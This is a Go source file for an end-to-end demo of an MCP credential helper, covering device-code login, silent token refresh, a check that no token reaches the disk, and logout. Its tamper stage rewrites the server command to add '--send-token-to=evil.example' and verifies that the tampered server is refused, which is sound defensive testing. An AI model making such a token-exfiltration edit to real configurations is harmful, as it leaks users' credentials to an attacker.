package demo

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"time"
)

// userCode finds the code that login shows to the person.
var userCode = sync.OnceValue(func() *regexp.Regexp {
	return regexp.MustCompile(`\b[BCDFGHJKLMNPQRSTVWXZ]{4}-[BCDFGHJKLMNPQRSTVWXZ]{4}\b`)
})

// login runs `mcp-valet login demo` and approves its code, unless a person does that.
func (s *stage) login(ctx context.Context) error {
	args := []string{"login", s.account}
	if !s.options.Interactive {
		args = append(args, "--no-open")
	}
	s.say("$ mcp-valet %s", strings.Join(args, " "))
	watch := &codeWatcher{out: quoted{s.out, "|"}, approve: s.approve}
	if s.options.Interactive {
		watch.approve = nil
	}
	if err := s.valet(ctx, nil, watch, args...); err != nil {
		return err
	}
	if watch.err != nil {
		return fmt.Errorf("approving the code: %w", watch.err)
	}
	s.expires = time.Now().Add(accessTTL)
	if st := s.issuer.Stats(); st.DeviceAuthorizations == 0 || st.SignIns != 1 {
		return fmt.Errorf("the issuer saw %d device codes and %d sign-ins, want 1 sign-in", st.DeviceAuthorizations, st.SignIns)
	}
	return nil
}

// approve is the person's part, done without one.
func (s *stage) approve(code string) error {
	s.say("(the demo approves code %s at the issuer, as you would in the browser)", code)
	return s.issuer.Approve(code, subject)
}

// codeWatcher passes on what login prints, and acts on the code in it.
type codeWatcher struct {
	out     io.Writer
	approve func(code string) error
	text    bytes.Buffer // all so far, to find the code across writes
	done    bool
	err     error
}

func (w *codeWatcher) Write(p []byte) (int, error) {
	if _, err := w.out.Write(p); err != nil {
		return 0, err
	}
	w.text.Write(p)
	if code := userCode().FindString(w.text.String()); code != "" && !w.done && w.approve != nil {
		w.done = true
		w.err = w.approve(code)
	}
	return len(p), nil
}

// launch starts the server as a client does.
func (s *stage) launch(ctx context.Context) error {
	if err := s.start(ctx); err != nil {
		return err
	}
	return s.list(ctx)
}

// list asks for the tools, as clients do at start.
func (s *stage) list(ctx context.Context) error {
	tools, err := s.session.tools(ctx)
	if err != nil {
		return err
	}
	s.say("tools/list -> %s", strings.Join(tools, ", "))
	if !slices.Contains(tools, "create_incident") {
		return fmt.Errorf("the tools are %q", tools)
	}
	return nil
}

// start starts the server and shakes hands with it.
func (s *stage) start(ctx context.Context) (err error) {
	if s.session, err = s.connect(); err != nil {
		return err
	}
	name, err := s.session.initialize(ctx)
	if err != nil {
		return err
	}
	s.say("initialize -> %s answers", name)
	return nil
}

func (s *stage) call(ctx context.Context) error {
	if err := s.mustCall(ctx, "whoami", nil, subject); err != nil {
		return err
	}
	incident := map[string]any{"title": "Token found in a public repository", "severity": "high"}
	if err := s.mustCall(ctx, "create_incident", incident, "INC-0001"); err != nil {
		return err
	}
	return s.mustCall(ctx, "list_incidents", nil, "Token found")
}

// mustCall calls a tool, which must succeed with want in its answer.
func (s *stage) mustCall(ctx context.Context, tool string, args map[string]any, want string) error {
	text, failed, err := s.session.call(ctx, tool, args)
	if err != nil {
		return err
	}
	s.say("tools/call %s -> %s", tool, firstLine(text))
	if failed || !strings.Contains(text, want) {
		return fmt.Errorf("tool %s answered %q, want %q in it", tool, text, want)
	}
	return nil
}

// expire waits until the token is over: the next call goes to a server that has a new one, and nobody notices.
func (s *stage) expire(ctx context.Context) error {
	before := s.issuer.Stats()
	if err := s.outlive(ctx); err != nil {
		return err
	}
	if err := s.mustCall(ctx, "whoami", nil, subject); err != nil {
		return err
	}
	s.expires = time.Now().Add(accessTTL)
	after := s.issuer.Stats()
	s.say("the issuer saw %d refresh, %d sign-ins", after.Refreshes-before.Refreshes, after.SignIns-before.SignIns)
	if after.Refreshes-before.Refreshes != 1 || after.SignIns != before.SignIns {
		return fmt.Errorf("want exactly 1 refresh and no sign-in")
	}
	return s.session.end()
}

// outlive waits until the token is over.
func (s *stage) outlive(ctx context.Context) error {
	wait := time.Until(s.expires) + time.Second
	s.say("(waiting %d s; the demo's tokens live %d s)", int(wait.Seconds()+1), int(accessTTL.Seconds()))
	select {
	case <-time.After(wait):
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// renew starts the server anew: one refresh, no question to the person, and the work goes on.
func (s *stage) renew(ctx context.Context) error {
	if err := s.outlive(ctx); err != nil {
		return err
	}
	before := s.issuer.Stats()
	if err := s.start(ctx); err != nil {
		return err
	}
	s.expires = time.Now().Add(accessTTL)
	after := s.issuer.Stats()
	s.say("the issuer saw %d refresh, %d sign-ins", after.Refreshes-before.Refreshes, after.SignIns-before.SignIns)
	if after.Refreshes-before.Refreshes != 1 || after.SignIns != before.SignIns {
		return fmt.Errorf("want exactly 1 refresh and no sign-in")
	}
	if err := s.mustCall(ctx, "whoami", nil, subject); err != nil {
		return err
	}
	if err := s.mustCall(ctx, "list_incidents", nil, "INC-0001"); err != nil {
		return err
	}
	return s.session.end()
}

// tamper edits the command behind the user's back: it is given no token.
func (s *stage) tamper(ctx context.Context) error {
	good, err := os.ReadFile(s.configFile())
	if err != nil {
		return err
	}
	bad := bytes.Replace(good, []byte(`"demo-server"`), []byte(`"demo-server", "--send-token-to=evil.example"`), 1)
	if bytes.Equal(good, bad) {
		return fmt.Errorf("the config has no command to edit")
	}
	if err := os.WriteFile(s.configFile(), bad, 0o600); err != nil {
		return err
	}
	s.say(`"args" now has --send-token-to=evil.example`)
	if s.session, err = s.connect(); err != nil {
		return err
	}
	_, err = s.session.initialize(ctx)
	refusal, refused := err.(*rpcError)
	if !refused || !strings.Contains(refusal.Message, " trust "+s.server) {
		return fmt.Errorf("the edited server was not refused: %v", err)
	}
	s.say("initialize -> error: %s", refusal.Message)
	if err := s.session.endRefused(); err != nil {
		return err
	}
	return os.WriteFile(s.configFile(), good, 0o600)
}

// searchDisk looks for every token that the issuer has handed out, in every file of the demo.
func (s *stage) searchDisk(context.Context) error {
	tokens := s.seen.tokens()
	if len(tokens) < 6 {
		return fmt.Errorf("the recorder saw %d tokens, want at least 6", len(tokens))
	}
	tokens = append(tokens, oldToken, password)
	files := 0
	err := filepath.WalkDir(s.folder, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() || path == s.exe {
			return err // this program knows the demo's secrets
		}
		files++
		return s.searchFile(path, tokens)
	})
	if err != nil {
		return err
	}
	s.say("%d files searched for %d tokens and secrets: none of them holds one", files, len(tokens))
	return nil
}

func (s *stage) searchFile(path string, tokens []string) error {
	text, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	rel, _ := filepath.Rel(s.folder, path)
	for _, token := range tokens {
		if bytes.Contains(text, []byte(token)) {
			return fmt.Errorf("%s holds a token or secret in plain text", rel)
		}
	}
	s.say("%7d bytes  %s", len(text), filepath.ToSlash(rel))
	return nil
}

// logout revokes the refresh token at the issuer and empties the store.
func (s *stage) logout(ctx context.Context) error {
	s.say("$ mcp-valet logout %s", s.account)
	if err := s.valet(ctx, nil, quoted{s.out, "|"}, "logout", s.account); err != nil {
		return err
	}
	if st := s.issuer.Stats(); st.Revocations != 2 { // the first one was Monday's
		return fmt.Errorf("the issuer saw %d revocations, want 2", st.Revocations)
	}
	return nil
}

func firstLine(text string) string {
	line, _, _ := strings.Cut(text, "\n")
	return line
}
